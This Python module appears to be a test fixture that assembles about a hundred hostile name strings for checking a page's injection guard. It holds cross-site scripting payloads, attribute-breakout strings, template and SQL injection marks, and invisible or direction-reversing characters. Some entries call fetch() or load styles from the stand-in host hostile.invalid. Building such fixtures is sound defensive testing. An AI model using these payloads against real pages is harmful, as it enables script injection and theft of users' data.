"""A hundred hostile names: markup, scripts, template marks, writing directions, characters that cannot be seen.

Each script that runs sets ``window.hacked`` or asks for a foreign address; the guard of a page sees both.
"""

from __future__ import annotations

RUN = "window.hacked=1"
GET = "fetch('http://hostile.invalid/')"

_TAGS = (
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<scr<script>ipt>{}</scr</script>ipt>", "<script/x>{}</script>",
    "</script><script>{}</script>", "<img src=x onerror={}>", "<img src=x onerror=\"{}\">", "<IMG SRC=x OnErRoR='{}'>",
    "<img/src=x/onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>", "<svg><animate onbegin={} dur=1s>",
    "<math><mi//xlink:href=\"javascript:{}\">x", "<body onload={}>", "<iframe src=\"javascript:{}\"></iframe>",
    "<iframe srcdoc=\"<script>parent.{}</script>\"></iframe>", "<object data=\"javascript:{}\"></object>",
    "<embed src=\"javascript:{}\">", "<a href=\"javascript:{}\">x</a>", "<form action=\"javascript:{}\"><button>x",
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>",
    "<details open ontoggle={}>", "<video src=x onerror={}>", "<audio src=x onerror={}>",
    "<video><source onerror={}></video>", "<marquee onstart={}>", "<style>@import 'http://hostile.invalid/';</style>{}",
    "<link rel=stylesheet href=http://hostile.invalid/>{}", "<base href=http://hostile.invalid/>{}",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<template><script>{}</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "<!--><img src=x onerror={}>-->",
    "<![CDATA[><img src=x onerror={}>]]>", "<p style=\"background:url(http://hostile.invalid/)\">{}",
    "<div style=\"position:fixed;inset:0\" onmouseover={}>x</div>", "<x contenteditable onblur={}>",
    "<button popovertarget=x onclick={}>x</button>",
)  # fmt: skip
_BREAKS = (
    "\" onfocus={} autofocus x=\"", "' onfocus={} autofocus x='", "\"><img src=x onerror={}>",
    "'><img src=x onerror={}>", "`><img src=x onerror={}>", "</td></tr></table><img src=x onerror={}>",
    "</option></datalist><img src=x onerror={}>", "</li></ul><img src=x onerror={}>", "</bdi><img src=x onerror={}>",
    "</textarea><img src=x onerror={}>", "</button><img src=x onerror={}>", "</style><img src=x onerror={}>",
    "</title><img src=x onerror={}>", "&lt;img src=x onerror={}&gt;", "&#60;img src=x onerror={}&#62;",
    "\\x3cimg src=x onerror={}\\x3e", "%3Cimg src=x onerror={}%3E", "\u003cimg src=x onerror={}\u003e",
)  # fmt: skip
_MARKS = (
    "javascript:{}", "data:text/html,<script>{}</script>", "{{{{constructor.constructor('{}')()}}}}", "${{{}}}",
    "{{{{{}}}}}", "<%= {} %>", "#{{{}}}", "[x](javascript:{})", "![x](http://hostile.invalid/x.png){}",
    "$$\\href{{javascript:{}}}{{x}}$$", "'; {}; //", "\"; {}; //", "`${{{}}}`", "\\'; {}; //", "*/ {}; /*",
    "\n{}\n", "__proto__{}", "constructor{}", "'; DROP TABLE sends; --{}", "=HYPERLINK(\"http://hostile.invalid/\"){}",
)  # fmt: skip
_UNSEEN = (
    "\u202egpj.\u202c{}", "\u2066{}\u2069", "\u200f{}", "\u061c{}", "a\u0000{}", "a\u001b[31m{}",
    "a\u001b]0;{}\u0007", "a\u007f{}", "a\u0085{}", "a\u2028{}", "a\u2029{}", "\ufeff{}", "\ud83d{}", "\udc00{}",
    "\U000e0041{}", "e" + "\u0301" * 60 + "{}", "\u0645\u0631\u062d\u0628\u0627 {}", "\u05e9\u05dc\u05d5\u05dd {}",
    "W" * 400 + "{}", "a b " * 120 + "{}", "\t{}", " {} ", "\ufffe{}", "\U0001f468\u200d\U0001f469\u200d\U0001f467{}",
)  # fmt: skip

STRINGS = tuple(
    dict.fromkeys(
        [text.format(GET if number % 5 == 4 else RUN) for number, text in enumerate((*_TAGS, *_BREAKS, *_MARKS))]
        + [text.format(f"<img src=x onerror={RUN}>") for text in _UNSEEN]
    )
)
